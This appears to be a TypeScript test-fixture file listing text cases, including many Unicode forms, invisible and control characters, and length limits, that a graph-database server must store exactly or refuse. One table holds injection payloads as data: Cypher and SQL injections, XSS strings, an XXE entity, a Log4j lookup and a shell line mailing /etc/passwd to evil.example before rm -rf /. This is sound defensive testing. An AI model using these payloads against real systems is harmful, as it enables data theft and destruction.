import type { ErrorCode } from '../../../packages/server/src/http/error-codes.ts';

/** Where a text is written: a description has lines, a name and an alias are one, a reason is free. */
export type TextPlace = 'description' | 'name' | 'alias' | 'reason';

/** A text that goes into the graph and is read again: to the letter, or it is refused with a code. */
export type TextCase = {
  readonly id: string;
  /** Where it is written, in all of these at once. */
  readonly places: readonly TextPlace[];
  readonly text: string;
  readonly expected: 'KEPT' | ErrorCode;
};

type Texts = Readonly<Record<string, string>>;

/** One text in two normal forms, and what looks or sounds like it. */
const FORMS: Texts = {
  'an é of one sign': 'Caf\u00e9',
  'an é of two signs': 'Cafe\u0301 of two',
  'an å of one sign': '\u00c5ngstr\u00f6m',
  'the sign of the ångström': '\u212bngstr\u00f6m of signs',
  'a ligature': 'e\ufb03cient',
  'letters of full width': 'Ｐｙｔｈｏｎ wide',
  'digits in circles': 'Level ①②③',
  'a fraction and a power': '½ of x²',
  'Hangul of one sign': '한글 데이터',
  'Hangul of its parts': '\u1112\u1161\u11ab\u1100\u1173\u11af parts',
  'a Turkish dotted I': 'İstanbul',
  'a Turkish dotless i': 'ısı',
  'a sharp s': 'Straße',
  'two sigmas': 'ΣΊΣΥΦΟΣ ς',
  'Cyrillic that looks Latin': 'Руthоn',
  'Greek that looks Latin': 'Ρython of Greece',
  'mathematical letters': '𝐏𝐲𝐭𝐡𝐨𝐧 bold',
  Japanese: '日本語のスキル',
  'Japanese of half width': 'ﾃﾞｰﾀ',
  Chinese: '数据工程',
  'Chinese beyond 16 bits': '𠮷野家',
  Thai: 'ภาษาไทย',
  Hindi: 'डेटा विज्ञान',
  'Tamil with joined signs': 'தமிழ் மொழி',
  Arabic: 'هندسة البيانات',
  'Hebrew with points': 'שָׁלוֹם',
  Cherokee: 'ᏣᎳᎩ',
  'Ethiopic words': 'ሰላም ዓለም',
  'an emoji': 'Fun 😀',
  'a family of emoji': 'Family 👨\u200d👩\u200d👧\u200d👦',
  'a flag': 'Flag 🇮🇳',
  'a colour of skin': 'Hand 👍🏽',
  'a keycap': 'Key 1️⃣',
  'a Persian joiner': 'می\u200cخواهم',
  'a hundred accents': `a${'\u0301'.repeat(100)} accents`,
  Zalgo: 'Z̷̢̛͓̙͎̐a̸͕̍l̵̰̈́g̴̝̀o̶͉̓',
};

/** Texts that would be a part of something else, were they ever put together with it. */
const CODE: Texts = {
  'an end of Cypher': "x'}) DETACH DELETE n //",
  'an end of Cypher in double quotes': '"}) MATCH (n) DETACH DELETE n //',
  'an end of a name in Cypher': '`) DETACH DELETE n //',
  'an escaped quote of Cypher': '\\u0027 OR 1=1',
  'a backslash at the end': 'C:\\',
  'two backslashes': '\\\\server\\share',
  'a parameter of Cypher': '$param0 and $slug',
  'a comment of Cypher': '/* */ // RETURN 1',
  'a file of Cypher': 'LOAD CSV FROM "file:///etc/passwd" AS line RETURN line',
  'a map of Cypher': '{name: "x", id: 1}',
  'a star of Lucene': '* OR name:*',
  'a typo of Lucene': 'python~0.5 AND ja?a',
  'a range of Lucene': '[a TO z] {a TO z}',
  'a field of Lucene': 'slug:python^100',
  'an escape of Lucene': '\\+\\-\\&\\|\\!\\(\\)',
  'an expression of Lucene': '/.*/ (a|b)*',
  'an open bracket of Lucene': '((((open',
  'signs of Lucene alone': '+ - && || ! ( ) { } [ ] ^ " ~ * ? : \\ /',
  'a bomb of an expression': `${'a'.repeat(60)}! (a+)+$`,
  'an SQL injection': "Robert'); DROP TABLE students;--",
  'a MongoDB filter': '{"$gt": ""}',
  'a script': '<script>alert(1)</script>',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'a drawing that loads': '<svg onload=alert(1)>',
  'a link to a script': '[click](javascript:alert(1))',
  'an address of a script': 'javascript:alert(document.cookie)',
  'an address of data': 'data:text/html,<script>alert(1)</script>',
  'an end of a style': '</style><script>alert(1)</script>',
  'entities of HTML': '&lt;b&gt; &amp; &#x27; &nbsp;',
  'an entity of XML': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
  'a template of JavaScript': '${7*7} `${process.env}`',
  'a template of another sort': '{{7*7}} {{constructor.constructor("return 1")()}}',
  'a template of Ruby': '<%= 7*7 %> #{7*7}',
  'a lookup of Log4j': '${jndi:ldap://evil.example/a}',
  'a command': '; cat /etc/passwd | mail x@evil.example && rm -rf / `id` $(id)',
  'a path': '../../../../etc/passwd',
  'a path of Windows': '..\\..\\windows\\win.ini',
  'a formula': '=HYPERLINK("http://evil.example","x")',
  'a formula with +': '+1+cmd|"/c calc"!A1',
  'a formula with -': '-2+3',
  'a formula with @': '@SUM(1)',
  'a formula of full width': '＝1+1',
  'a format of C': '%s%n%x %d',
  'per cents': '%00 %0d%0a %27 %E0%A4%A',
  'a header of mail': 'a@b.example Bcc: all@evil.example',
  'a line of a log': '{"level":60,"msg":"forged"}',
  'colours of a terminal without their sign': '[31mred[0m',
  'a row of JSON Lines': '{"type":"Role","id":"1"}',
  'a node of YAML': '!!js/function "function(){}"',
  'a key of YAML': 'a: b #c - d',
  'the prototype': '__proto__',
  'a constructor': 'constructor of prototype',
  'null as a word': 'null and void',
  'undefined as a word': 'undefined behaviour',
  'NaN as a word': 'NaN and Infinity',
  'true as a word': 'true and false',
  'a number with an exponent': '1e1000 numbers',
  'zeros before a number': '007 agents',
  'a date': '2024-02-30 dates',
  'a reference of ours': 'skill/python look-alike',
  'a statement of ours': 'role/data-engineer REQUIRES skill/python',
  'quotes of a word processor': '“Quoted” ‘twice’ «thrice»',
  'dashes of all sorts': 'a-b–c—d−e',
  'C and its kin': 'C, C++ & C#',
};

/** Texts of more than one line or with signs that nobody sees, which a description may have. */
const LINES: Texts = {
  'two lines': 'one\ntwo',
  'two lines of DOS': 'one\r\ntwo',
  'two lines of an old Macintosh': 'one\rtwo',
  'a tab': 'one\ttwo',
  'two hundred lines': Array.from({ length: 200 }, (_, at) => `${at}`).join('\n'),
  'a forged line of a log': 'ok\r\n{"level":60,"msg":"forged"}',
  'a forged header': 'ok\r\nSet-Cookie: a=b',
  'a separator of lines': 'one\u2028two',
  'a separator of paragraphs': 'one\u2029two',
  'a turn to the right': 'abc\u202etxt.exe',
  'a turn that ends': 'a\u2067b\u2069c',
  'a mark of right to left': 'a\u200fb',
  'a space of no width': 'py\u200bthon',
  'a joiner of words': 'py\u2060thon',
  'a byte order mark inside': 'py\ufeffthon',
  'a soft hyphen': 'co\u00adoperate',
  'a tag of language': 'a\u{e0061}b',
  'a filler of Hangul': 'py\u3164thon',
  'a break that does not break': 'a\u00a0b',
  'a wide blank': 'a\u3000b',
};

/** Texts that nothing keeps. */
const REFUSED: Texts = {
  nothing: '',
  blanks: '   ',
  'a line break': '\n',
  'a space of no width alone': '\u200b',
  'a wide blank alone': '\u3000',
  'a pattern of Braille without dots': '\u2800',
  'fillers of Hangul': '\u3164\u115f\u1160\uffa0',
  'a null byte': 'a\u0000b',
  'a null byte alone': '\u0000',
  'a bell': 'a\u0007b',
  'a backspace': 'a\u0008b',
  'an escape': '\u001b[31mred',
  'a delete': 'a\u007fb',
  'a line break of a mainframe': 'a\u0085b',
  'a control sign of eight bits': 'a\u009bb',
  'the first half of a pair': 'a\ud800b',
  'the second half of a pair': 'a\udc00b',
  'a pair the wrong way round': 'a\udc00\ud800b',
  'half of a pair at the end': 'a\ud83d',
};

/** Texts with white space around them, which only a reason may have. */
const PADDED: Texts = {
  'a blank before': ' before',
  'a blank after': 'after ',
  'a line break after': 'after\n',
  'a byte order mark before': '\ufeffbefore',
};

/** Texts at a limit of their place, and one beyond. */
const LONG: readonly TextCase[] = [
  ...atLimit('name', 'n', 200, 'BAD_USER_INPUT'),
  ...atLimit('name', '名', 200, 'BAD_USER_INPUT'),
  ...atLimit('alias', 'a', 200, 'BAD_USER_INPUT'),
  ...atLimit('description', 'd', 10_240, 'LIMIT_EXCEEDED'),
  ...atLimit('description', '😀', 2_560, 'LIMIT_EXCEEDED'),
  ...atLimit('reason', 'r', 1_000, 'BAD_USER_INPUT'),
];

function atLimit(place: TextPlace, sign: string, most: number, beyond: ErrorCode): TextCase[] {
  return [most, most + 1].map((count) => ({
    id: `text: ${place} of ${count} × ${sign}`,
    places: [place],
    text: sign.repeat(count),
    expected: count > most ? beyond : 'KEPT',
  }));
}

const inPlaces = (
  places: readonly TextPlace[],
  texts: Texts,
  expected: TextCase['expected'],
): TextCase[] =>
  Object.entries(texts).map(([id, text]) => ({
    id: `text: ${places.join(', ')} with ${id}`,
    places,
    text,
    expected,
  }));

/** What a person may take for a blank or a letter, refused where two names could look like one. */
const HIDDEN = Object.fromEntries(
  Object.entries(LINES).filter(([id]) => !/blank|does not break/.test(id)),
);

/** Texts in every script and of every malice, and what becomes of each. */
export const TEXTS: readonly TextCase[] = [
  ...inPlaces(['name', 'description', 'reason'], { ...FORMS, ...CODE }, 'KEPT'),
  ...inPlaces(['description', 'reason'], LINES, 'KEPT'),
  ...inPlaces(['reason'], PADDED, 'KEPT'),
  ...(['name', 'alias'] as const).flatMap((place) => inPlaces([place], HIDDEN, 'BAD_USER_INPUT')),
  ...(['name', 'alias', 'description'] as const).flatMap((place) =>
    inPlaces([place], { ...REFUSED, ...PADDED }, 'BAD_USER_INPUT'),
  ),
  ...inPlaces(['reason'], REFUSED, 'BAD_USER_INPUT'),
  ...LONG,
];
